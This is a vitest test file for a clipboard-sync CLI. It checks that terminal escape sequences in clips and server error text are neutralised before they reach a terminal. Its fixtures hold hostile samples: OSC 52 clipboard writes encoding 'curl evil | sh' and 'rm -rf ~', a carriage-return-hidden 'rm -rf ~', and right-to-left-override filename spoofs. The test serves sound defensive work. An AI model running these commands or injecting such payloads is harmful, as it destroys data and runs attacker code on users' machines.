import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { TestUser } from '@clipsync/server/testing';
import { REPLACED_NOTE } from '../src/commands/pull';
import { startCliHarness, type CliHarness } from './harness';

/** Whether a terminal would act on the text: a control character other than a line break or a tab, or U+202E. */
const actsOnATerminal = (text: string) => /[\p{Cc}\u202E]/u.test(text.replace(/\r\n|\n|\t/g, ''));

/**
 * A clip's text as an attacker would share it: an OSC 52 write of the terminal's clipboard, a window title,
 * a screen clear (also as the one-byte C1 CSI), a right-to-left override, and a carriage return hiding a line.
 */
const HOSTILE =
  'copy this:\n\tcurl https://ok.example\r\n' +
  '\u001b]52;c;Y3VybCBldmlsIHwgc2g=\u0007\u001b]0;innocent title\u0007\u001b[2J\u009b2J ' +
  'invoice\u202Efdp.sh\rrm -rf ~ # hidden';
const HOSTILE_SHOWN =
  'copy this:\n\tcurl https://ok.example\r\n' +
  '\uFFFD]52;c;Y3VybCBldmlsIHwgc2g=\uFFFD\uFFFD]0;innocent title\uFFFD\uFFFD[2J\uFFFD2J ' +
  'invoice\uFFFDfdp.sh\uFFFDrm -rf ~ # hidden';

describe('clipsync pull at a terminal and through a pipe', () => {
  let h: CliHarness;
  let user: TestUser;
  let env: Record<string, string>;
  let hostileId: string;
  beforeAll(async () => {
    h = await startCliHarness();
    user = await h.testApp.factory.user();
    env = await h.envOf(user);
    const pushed = await h.cli(['push'], { env, stdin: HOSTILE });
    expect(pushed.code, pushed.stderr).toBe(0);
    hostileId = /\/clips\/([A-Za-z0-9_-]{22})$/.exec(pushed.stdout.trim())![1]!;
  });
  afterAll(() => h.close());

  test('a terminal gets the text with what it would act on shown as �, line breaks and tabs kept, and a note', async () => {
    const pulled = await h.cli(['pull', hostileId], { env, stdoutIsTTY: true, stderrIsTTY: true });
    expect(pulled.code, pulled.stderr).toBe(0);
    expect(pulled.stdout).toBe(HOSTILE_SHOWN);
    expect(actsOnATerminal(pulled.stdout)).toBe(false);
    expect(pulled.stderr).toBe(`\n${REPLACED_NOTE}\n`);
    const stderrToAFile = await h.cli(['pull', hostileId], { env, stdoutIsTTY: true });
    expect(stderrToAFile.stdout).toBe(HOSTILE_SHOWN);
    expect(stderrToAFile.stderr).toBe(`${REPLACED_NOTE}\n`);
  });

  test('a pipe gets it byte for byte, with no note', async () => {
    const pulled = await h.cli(['pull', hostileId], { env });
    expect(pulled.code, pulled.stderr).toBe(0);
    expect(pulled.stdoutBytes.equals(Buffer.from(HOSTILE, 'utf8'))).toBe(true);
    expect(pulled.stderr).toBe('');
  });

  test('--raw gives a terminal the text byte for byte', async () => {
    const pulled = await h.cli(['pull', hostileId, '--raw'], { env, stdoutIsTTY: true });
    expect(pulled.code, pulled.stderr).toBe(0);
    expect(pulled.stdoutBytes.equals(Buffer.from(HOSTILE, 'utf8'))).toBe(true);
    expect(pulled.stderr).toBe('');
  });

  // Right-to-left letters, not the invisible marks between them: a mark (U+200F) is shown as �, as in listings.
  test('plain text reaches a terminal unchanged, CRLF, tabs and right-to-left script included', async () => {
    const text = 'line one\r\n\tline two — Grüße, 東京, שלום עולם 🚀\n\n';
    const pushed = await h.cli(['push', '--text', text], { env });
    const id = /\/clips\/([A-Za-z0-9_-]{22})$/.exec(pushed.stdout.trim())![1]!;
    const pulled = await h.cli(['pull', id], { env, stdoutIsTTY: true });
    expect(pulled.stdoutBytes.equals(Buffer.from(text, 'utf8'))).toBe(true);
    expect(pulled.stderr).toBe('');
  });

  test('--json at a terminal parses to the text as stored, with nothing in the line a terminal acts on', async () => {
    const pulled = await h.cli(['pull', hostileId, '--json'], { env, stdoutIsTTY: true });
    expect(pulled.code, pulled.stderr).toBe(0);
    expect(actsOnATerminal(pulled.stdout)).toBe(false);
    expect(JSON.parse(pulled.stdout)).toMatchObject({ id: hostileId, content: HOSTILE });
  });
});

describe("a server's error text", () => {
  let h: CliHarness;
  let hostile: Server;
  let hostileUrl: string;
  /** A server's refusal as one that wants to act on the terminal of whoever runs clipsync against it would write it. */
  const refusal = {
    error: 'Not found\u001b]52;c;cm0gLXJmIH4=\u0007 \u009b2J\u202Egnp.exe\nclipsync: a line of its own',
    code: 'NOT_FOUND',
  };
  beforeAll(async () => {
    h = await startCliHarness();
    hostile = createServer((request, response) => {
      request.resume();
      const status = request.headers.authorization === 'Bearer csp_revoked' ? 401 : 404;
      response.writeHead(status, { 'Content-Type': 'application/json' }).end(JSON.stringify(refusal));
    });
    await new Promise<void>((resolve) => hostile.listen(0, '127.0.0.1', resolve));
    hostileUrl = `http://127.0.0.1:${(hostile.address() as AddressInfo).port}`;
  });
  afterAll(async () => {
    await new Promise((resolve) => hostile.close(resolve));
    await h.close();
  });

  test.each([['ls'], ['whoami'], ['pull'], ['rm', 'A'.repeat(22)], ['desktop', 'ls']])(
    'clipsync %s prints its first line with escapes and overrides shown as �',
    async (...argv) => {
      const result = await h.cli(argv, { env: { CLIPSYNC_URL: hostileUrl, CLIPSYNC_TOKEN: 'csp_any' } });
      expect(result.code).toBe(1);
      expect(result.stderr).toBe('clipsync: Not found\uFFFD]52;c;cm0gLXJmIH4=\uFFFD \uFFFD2J\uFFFDgnp.exe\n');
    },
  );

  test('a refused token (401) likewise', async () => {
    const result = await h.cli(['ls'], { env: { CLIPSYNC_URL: hostileUrl, CLIPSYNC_TOKEN: 'csp_revoked' } });
    expect(result.code).toBe(3);
    expect(result.stderr).toMatch(
      /^clipsync: Not found\uFFFD\]52;c;cm0gLXJmIH4=\uFFFD \uFFFD2J\uFFFDgnp\.exe: the server/,
    );
    expect(actsOnATerminal(result.stderr)).toBe(false);
  });

  test('with --json, the body as the server sent it, in a line with nothing a terminal acts on', async () => {
    const result = await h.cli(['ls', '--json'], { env: { CLIPSYNC_URL: hostileUrl, CLIPSYNC_TOKEN: 'csp_any' } });
    expect(result.code).toBe(1);
    expect(actsOnATerminal(result.stderr)).toBe(false);
    expect(JSON.parse(result.stderr)).toEqual(refusal);
  });
});
